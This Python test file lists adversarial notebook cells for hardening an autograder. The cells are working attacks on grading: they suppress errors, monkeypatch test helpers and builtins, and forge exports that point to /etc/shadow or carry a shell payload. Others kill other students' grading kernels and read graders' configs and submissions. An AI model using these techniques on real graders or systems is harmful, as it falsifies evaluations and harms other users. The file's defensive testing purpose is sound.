"""Adversarial cases for the out-of-kernel verdict: what a submission can do to its own kernel
before or during the tests. Ready to drop into tests/test_adversarial.py.

Each case is code a hostile student adds to a notebook, as a new cell at the top (`where="top"`)
or at the end (`where="end"`), and the expected outcome:

- `blank`: the blank student version plus the code must score zero ("zero");
- `solution`: the instructor's solution plus the code must score full marks ("full"), i.e. the
  attack neither helps a blank notebook nor hurts a correct one. None: not meaningful (the code
  sabotages the student's own answers, e.g. forged exports).

`NAMES` in the code is replaced by the list of names the notebook's tests read (the answers): an
attacker who cannot solve the exercise defines them with junk so that only a forged verdict
could pass. `MARKER` is replaced by nothing; cases that must stay inside their own batch find it
in os.environ["COURSE_GRADING_SANDBOX"].

Every case must leave honest students graded before and after it in the same batch at full
marks (the harness puts them around the cases), in every isolation mode the docs recommend.
"""

JUNK = "globals().update({_n: 0 for _n in NAMES})\n"

_SWALLOW = "try:\\n    exec(%r)\\nexcept BaseException:\\n    pass\\n"

CASES: dict[str, dict] = {
    # --- A. how the kernel reports an error -------------------------------------------------
    "custom-exc-handler": dict(
        issue=True,
        where="top",
        blank="zero",
        solution="full",
        desc="IPython custom exception handler that swallows every exception (no error output)",
        code="get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
    ),
    "traceback-display-replaced": dict(
        issue=True,
        where="top",
        blank="zero",
        solution="full",
        desc="the shell's traceback display replaced by a no-op",
        code="ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\nip._showtraceback = lambda *a, **k: None",
    ),
    "input-transformer-try-except": dict(
        issue=True,
        where="top",
        blank="zero",
        solution="full",
        desc="an input transformer that wraps every later cell in try/except (fools stock nbgrader too)",
        code=f"def _wrap(lines):\n    return ['{_SWALLOW}' % ''.join(lines)]\n"
        "get_ipython().input_transformers_post.append(_wrap)",
    ),
    "run-cell-replaced": dict(
        issue=True,
        where="top",
        blank="zero",
        solution="full",
        desc="the shell's run_cell_async replaced by one that runs every cell inside try/except",
        code=(
            "ip = get_ipython()\n_orig = ip.run_cell_async\n"
            "async def _run(raw_cell, *a, **k):\n"
            f"    code = '{_SWALLOW}' % raw_cell\n"
            "    k['transformed_cell'] = ip.transform_cell(code)\n"
            "    return await _orig(code, *a, **k)\n"
            "ip.run_cell_async = _run"
        ),
    ),
    "ast-transformer-try-except": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="an AST transformer that puts every later cell's body inside try/except",
        code=(
            "import ast\n"
            "class _Swallow(ast.NodeTransformer):\n"
            "    def visit_Module(self, node):\n"
            "        handler = ast.ExceptHandler(type=ast.Name('BaseException', ast.Load()), name=None, body=[ast.Pass()])\n"
            "        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]\n"
            "        return ast.fix_missing_locations(node)\n"
            "get_ipython().ast_transformers.append(_Swallow())"
        ),
    ),
    "kernel-do-execute-replaced": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="ipykernel's do_execute replaced: every request's code runs inside try/except",
        code=(
            "_k = get_ipython().kernel\n_orig_exec = _k.do_execute\n"
            "async def _do_execute(code, *a, **kw):\n"
            f"    return await _orig_exec('{_SWALLOW}' % code, *a, **kw)\n"
            "_k.do_execute = _do_execute"
        ),
    ),
    "error-messages-dropped": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="the kernel's session drops every 'error' message and turns error replies into 'ok' "
        "(fools stock nbgrader, which also reads the reply's status)",
        code=(
            "_k = get_ipython().kernel\n_send = _k.session.send\n"
            "def _quiet(stream, msg_or_type, content=None, *a, **kw):\n"
            "    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('header', {}).get('msg_type')\n"
            "    if kind == 'error':\n        return None\n"
            "    if kind == 'execute_reply' and isinstance(content, dict) and content.get('status') == 'error':\n"
            "        content = {'status': 'ok', 'execution_count': content.get('execution_count'), 'user_expressions': {}, 'payload': []}\n"
            "    return _send(stream, msg_or_type, content, *a, **kw)\n"
            "_k.session.send = _quiet"
        ),
    ),
    "post-run-cell-clears-error": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="traceback display silenced and a post_run_cell hook that clears the recorded error, "
        "so the reply says 'ok' (fools stock nbgrader)",
        code=(
            "ip = get_ipython()\nip._showtraceback = lambda *a, **k: None\n"
            "def _clear(result):\n    result.error_in_exec = None\n    result.error_before_exec = None\n"
            "ip.events.register('post_run_cell', _clear)"
        ),
    ),
    "excepthooks": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="sys.excepthook, threading.excepthook and sys.unraisablehook replaced",
        code=(
            "import sys, threading\nsys.excepthook = lambda *a: None\nthreading.excepthook = lambda *a: None\n"
            "sys.unraisablehook = lambda *a: None"
        ),
    ),
    # --- B. the test helpers and the libraries the tests use --------------------------------
    "checks-functions-replaced": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="every course.checks function replaced by a no-op, answers set to junk "
        "(the documented limitation: 'code that monkeypatches course.checks can fool the tests beside it')",
        code=JUNK
        + (
            "import course.checks as _c\n"
            "for _n in list(vars(_c)):\n"
            "    if _n.startswith(('expect_', 'passed', '_fail')):\n"
            "        setattr(_c, _n, lambda *a, **k: None)"
        ),
    ),
    "checks-module-swapped": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="sys.modules['course.checks'] replaced by a permissive fake, so hidden tests' fresh imports get it",
        code=JUNK
        + (
            "import sys, types, course.checks as _real\n"
            "_fake = types.ModuleType('course.checks')\n"
            "for _n in dir(_real):\n"
            "    setattr(_fake, _n, (lambda *a, **k: None) if _n.startswith(('expect_', 'passed')) else getattr(_real, _n))\n"
            "sys.modules['course.checks'] = _fake\nimport course\ncourse.checks = _fake"
        ),
    ),
    "import-hook": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="builtins.__import__ wrapped to hand out permissive course.checks functions to every import",
        code=JUNK
        + (
            "import builtins, types\n_imp = builtins.__import__\n"
            "_fake = types.SimpleNamespace(__getattr__=None)\n"
            "def _import(name, globals=None, locals=None, fromlist=(), level=0):\n"
            "    module = _imp(name, globals, locals, fromlist, level)\n"
            "    if name == 'course.checks' and fromlist:\n"
            "        fake = types.ModuleType('fake')\n"
            "        for n in dir(module):\n"
            "            setattr(fake, n, (lambda *a, **k: None) if n.startswith(('expect_', 'passed')) else getattr(module, n))\n"
            "        return fake\n"
            "    return module\nbuiltins.__import__ = _import"
        ),
    ),
    "builtins-lie": dict(
        where="top",
        blank="zero",
        solution=None,  # replacing builtins.int breaks the student's own kernel
        desc="answers are impostors and builtins type/int/float/str/isinstance/len are replaced to vouch for them",
        code=(
            "import builtins\n_type, _int, _float, _str, _isinstance, _len = type, int, float, str, isinstance, len\n"
            "class _Any:\n    def __eq__(self, o): return True\n    def __ne__(self, o): return False\n"
            "    def __lt__(self, o): return False\n    __gt__ = __lt__\n    def __le__(self, o): return True\n    __ge__ = __le__\n"
            "    def __hash__(self): return 0\n    def __call__(self, *a, **k): return self\n"
            "    def __iter__(self): return iter(())\n    def __getattr__(self, n): return self\n"
            "globals().update({_n: _Any() for _n in NAMES})\n"
            "builtins.type = lambda o, *a: (_type(o, *a) if a or not _isinstance(o, _Any) else _int)\n"
            "builtins.int = lambda *a, **k: (a[0] if a and _isinstance(a[0], _Any) else _int(*a, **k))\n"
            "builtins.float = lambda *a, **k: (a[0] if a and _isinstance(a[0], _Any) else _float(*a, **k))\n"
            "builtins.len = lambda o: (0 if _isinstance(o, _Any) else _len(o))"
        ),
    ),
    "pandas-comparisons-patched": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="pandas and numpy comparison, equality and testing functions patched to always agree; answers junk frames",
        code=(
            "import pandas as pd, numpy as np\n"
            "globals().update({_n: pd.DataFrame() for _n in NAMES})\n"
            "pd.DataFrame.equals = lambda *a, **k: True\npd.Series.equals = lambda *a, **k: True\n"
            "pd.DataFrame.__eq__ = lambda s, o: pd.DataFrame(True, index=s.index, columns=s.columns)\n"
            "pd.DataFrame.__ne__ = lambda s, o: pd.DataFrame(False, index=s.index, columns=s.columns)\n"
            "pd.testing.assert_frame_equal = lambda *a, **k: None\npd.testing.assert_series_equal = lambda *a, **k: None\n"
            "np.array_equal = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
            "import math\nmath.isclose = lambda *a, **k: True"
        ),
    ),
    "eq-lies": dict(
        where="top",
        blank="zero",
        solution=None,
        desc="every answer an object whose __eq__ is always True, __ne__ always False, __hash__ 0",
        code=(
            "class _Eq:\n    def __eq__(self, o): return True\n    def __ne__(self, o): return False\n"
            "    def __hash__(self): return 0\n"
            "globals().update({_n: _Eq() for _n in NAMES})"
        ),
    ),
    "class-lies": dict(
        where="top",
        blank="zero",
        solution=None,
        desc="int and str subclasses that claim to be int/str via __class__ and compare equal to anything",
        code=(
            "class _I(int):\n    __class__ = property(lambda s: int)\n    def __eq__(self, o): return True\n"
            "    def __ne__(self, o): return False\n    def __hash__(self): return 0\n"
            "class _S(str):\n    __class__ = property(lambda s: str)\n    def __eq__(self, o): return True\n"
            "    def __ne__(self, o): return False\n    def __hash__(self): return 0\n"
            "globals().update({_n: (_S('B') if i % 2 else _I(1)) for i, _n in enumerate(NAMES)})"
        ),
    ),
    "frame-subclass-lies": dict(
        where="top",
        blank="zero",
        solution=None,
        desc="a DataFrame subclass whose equals/itertuples/astype/reset_index lie and whose __class__ says DataFrame",
        code=(
            "import pandas as pd\n"
            "class _F(pd.DataFrame):\n    @property\n    def __class__(self): return pd.DataFrame\n"
            "    def equals(self, o): return True\n    def __eq__(self, o): return True\n"
            "globals().update({_n: _F({'date': [], 'event_id': [], 'title': []}) for _n in NAMES})"
        ),
    ),
    # --- C. code that keeps running while the tests do --------------------------------------
    "settrace-skips-raises": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="sys.settrace (and threading.settrace) tracer that jumps over every assert, raise and _fail line "
        "of the notebook's cells and the course's modules",
        code=JUNK
        + (
            "import sys, threading, linecache\n"
            "def _tracer(frame, event, arg):\n"
            "    name = frame.f_code.co_filename\n"
            "    if '/ipykernel_' not in name and not name.endswith('/course/checks.py'):\n"
            "        return None\n"
            "    if event == 'line':\n"
            "        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()\n"
            "        if line.startswith(('assert', 'raise', '_fail(')):\n"
            "            try:\n                frame.f_lineno = frame.f_lineno + 1\n"
            "            except Exception:\n                pass\n"
            "    return _tracer\nsys.settrace(_tracer)\nthreading.settrace(_tracer)"
        ),
    ),
    "signal-handler-repatches": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="a SIGALRM timer every 2 ms re-patches course.checks and the traceback display (defeats fresh imports)",
        code=JUNK
        + (
            "import signal, sys\n"
            "def _patch(*_):\n"
            "    m = sys.modules.get('course.checks')\n"
            "    if m:\n"
            "        for n in list(vars(m)):\n"
            "            if n.startswith(('expect_', '_fail')):\n"
            "                setattr(m, n, lambda *a, **k: None)\n"
            "    get_ipython()._showtraceback = lambda *a, **k: None\n"
            "signal.signal(signal.SIGALRM, _patch)\nsignal.setitimer(signal.ITIMER_REAL, 0.002, 0.002)"
        ),
    ),
    "thread-keeps-patching": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="a background thread that never stops re-patching course.checks, IPython and the session",
        code=JUNK
        + (
            "import threading, sys, time\n"
            "def _loop():\n"
            "    while True:\n"
            "        m = sys.modules.get('course.checks')\n"
            "        if m:\n"
            "            for n in list(vars(m)):\n"
            "                if n.startswith(('expect_', '_fail')):\n"
            "                    setattr(m, n, lambda *a, **k: None)\n"
            "        get_ipython()._showtraceback = lambda *a, **k: None\n"
            "        time.sleep(0.001)\n"
            "threading.Thread(target=_loop, daemon=True).start()"
        ),
    ),
    "exit-after-answers": dict(
        where="end",
        blank="zero",
        solution="full",
        desc="os._exit at the end of the notebook: the kernel is gone when the grader would ask for values",
        code="import os\nos._exit(0)",
    ),
    "exit-at-top": dict(
        where="top", blank="zero", solution=None, desc="os._exit before anything runs", code="import os\nos._exit(0)"
    ),
    "stdout-stderr-replaced": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="sys.stdout, sys.stderr and the display hook replaced; error text written to stdout",
        code=(
            "import sys, io\nsys.stdout = io.StringIO()\nsys.stderr = sys.stdout\nsys.displayhook = lambda v: None\n"
            "get_ipython().displayhook.write_output_prompt = lambda *a, **k: None"
        ),
    ),
    "prints-a-pass": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="text that looks like passing tests, and a numeric result (nbgrader's partial-credit rule) from every cell",
        code=(
            "print('OK: every test passed.\\nAll tests passed: 10/10')\n"
            "get_ipython().events.register('post_run_cell', lambda r: print('OK: `answer` has the right form.'))\n"
            "1000"
        ),
    ),
    # --- D. the export itself ------------------------------------------------------------------
    "forged-exports-non-data": dict(
        where="top",
        blank="zero",
        solution=None,
        desc="the exporter replaced: every export file claims pickle, code and absurd nesting instead of data",
        code=(
            "import json, os, course.autograder.values as _v\n"
            "def _forge(ns, test_id, required, optional, calls, folder='.course-export'):\n"
            "    os.makedirs(folder, exist_ok=True)\n"
            "    deep = {'$': 'none'}\n"
            "    for _ in range(5000):\n        deep = {'$': 'list', 'v': [deep]}\n"
            "    values = {n: {'$': 'pickle', 'v': 'gASVAAAA'} for n in required}\n"
            "    values.update({n: {'$': 'code', 'v': '__import__(\"os\").system(\"id\")'} for n in optional})\n"
            "    if required:\n        values[required[0]] = deep\n"
            "    doc = {'format': 1, 'test': test_id, 'values': values, 'tables': {}, 'missing': [], 'refused': {}}\n"
            "    try:\n        text = json.dumps(doc)\n    except RecursionError:\n        text = '[' * 100000\n"
            "    open(os.path.join(folder, test_id + '.json'), 'w').write(text)\n"
            "_v.export = _forge"
        ),
    ),
    "export-file-is-a-link-or-fifo": dict(
        where="top",
        blank="zero",
        solution=None,
        desc="export files replaced by a symlink to /etc/shadow, a FIFO and a 100 MB file; the real exporter disabled",
        code=(
            "import os, course.autograder.values as _v\n"
            "os.makedirs('.course-export', exist_ok=True)\n"
            "def _sabotage(ns, test_id, *a, **k):\n"
            "    p = os.path.join('.course-export', test_id + '.json')\n"
            "    if os.path.lexists(p):\n        os.remove(p)\n"
            "    kind = sum(map(ord, test_id)) % 3\n"
            "    if kind == 0:\n        os.symlink('/etc/shadow', p)\n"
            "    elif kind == 1:\n        os.mkfifo(p)\n"
            "    else:\n"
            "        with open(p, 'wb') as f:\n            f.truncate(60_000_000)\n"
            "_v.export = _sabotage"
        ),
    ),
    "huge-answer": dict(
        where="top",
        blank="zero",
        solution=None,
        desc="answers too large to check: a 30-million-character string and a 3-million-row frame",
        code=(
            "import pandas as pd\n"
            "globals().update({_n: ('x' * 30_000_000 if i % 2 else pd.DataFrame({'a': range(3_000_000)})) "
            "for i, _n in enumerate(NAMES)})"
        ),
    ),
    "globals-lies-to-exporter": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="builtins.globals replaced by a function returning a dict of impostors",
        code=(
            "import builtins\n_g = builtins.globals\n"
            "class _Eq:\n    def __eq__(self, o): return True\n    def __hash__(self): return 0\n"
            "builtins.globals = lambda: {**_g(), **{n: _Eq() for n in NAMES if n not in _g()}}"
        ),
    ),
    # --- E. reaching beyond the own kernel ---------------------------------------------------
    "leftover-process-attacks": dict(
        where="top",
        blank="zero",
        solution="full",
        stock=False,
        desc="a detached process (double fork, new session) that for 40 s kills every grading kernel of ITS OWN "
        "batch it can signal and overwrites every export and values file it can reach. Safety: it acts only on "
        "processes whose environment carries this batch's exact COURSE_GRADING_SANDBOX=<token>, writes only "
        "inside its own batch's scratch folder, and does nothing at all without a token of the batch's length "
        "or as root (never run it under stock nbgrader, which sets none)",
        code=(
            "import os, time, glob, signal\n"
            "marker = os.environ.get('COURSE_GRADING_SANDBOX', '')\n"
            "tag = ('COURSE_GRADING_SANDBOX=' + marker).encode()\n"
            "kernel = os.getpid()  # its own kernel is spared: the attack is on everyone else\n"
            "armed = len(marker) >= 16 and min(os.getresuid()) > 0\n"
            "if armed and os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        me = os.getpid()\n"
            "        end = time.time() + 40\n"
            "        while time.time() < end:\n"
            "            for d in glob.glob('/proc/[0-9]*'):\n"
            "                try:\n"
            "                    pid = int(d[6:])\n"
            "                    if pid in (me, kernel) or tag not in open(d + '/environ', 'rb').read().split(b'\\0'):\n"
            "                        continue\n"
            "                    if os.getsid(pid) != os.getsid(me):\n"
            "                        os.kill(pid, signal.SIGKILL)\n"
            "                except Exception:\n"
            "                    pass\n"
            "            for p in glob.glob('../*/.course-export/*.json') + glob.glob('../*.verdict-*/values.json'):\n"
            "                try:\n"
            "                    if not os.path.realpath(p).startswith(os.getcwd() + '/'):\n"
            "                        open(p, 'w').write('{}')\n"
            "                except Exception:\n"
            "                    pass\n"
            "            time.sleep(0.05)\n"
            "        os._exit(0)\n"
            "    os._exit(0)\n"
            "    \n"
            "if armed:\n"
            "    os.wait()"
        ),
    ),
    "reads-secrets": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="reads nbgrader_config.py, the gradebook and other students' submissions; prints what it found "
        "(the harness checks the output for the config's marker text)",
        code=(
            "import glob, os\nfound = []\n"
            "for pattern in ['../../../nbgrader_config.py', '/tmp/*/nbgrader_config.py', '../../../gradebook.db', "
            "'../*/*.ipynb', '../../../submitted/*/*/*.ipynb', os.path.expanduser('~/*'), '/root/*', '/home/*/*']:\n"
            "    for p in glob.glob(pattern):\n"
            "        try:\n            open(p, 'rb').read(16)\n            found.append(p)\n"
            "        except Exception:\n            pass\n"
            "print('READABLE:', found)"
        ),
    ),
    "asks-the-zygote": dict(
        where="top",
        blank="zero",
        solution="full",
        desc="finds the zygote's socket in /proc/net/unix and asks it for an unsandboxed kernel",
        code=(
            "import socket, json\nfound = []\n"
            "try:\n    lines = open('/proc/net/unix').read().splitlines()\nexcept OSError:\n    lines = []\n"
            "for line in lines:\n"
            "    path = line.split()[-1] if len(line.split()) > 7 else ''\n"
            "    if path.endswith('zygote.sock'):\n"
            "        s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)\n"
            "        try:\n"
            "            s.connect(path); s.settimeout(3)\n"
            "            found.append((path, s.recv(4096)))\n"
            "        except Exception as e:\n"
            "            found.append((path, repr(e)))\n"
            "print('ZYGOTE:', found)"
        ),
    ),
}
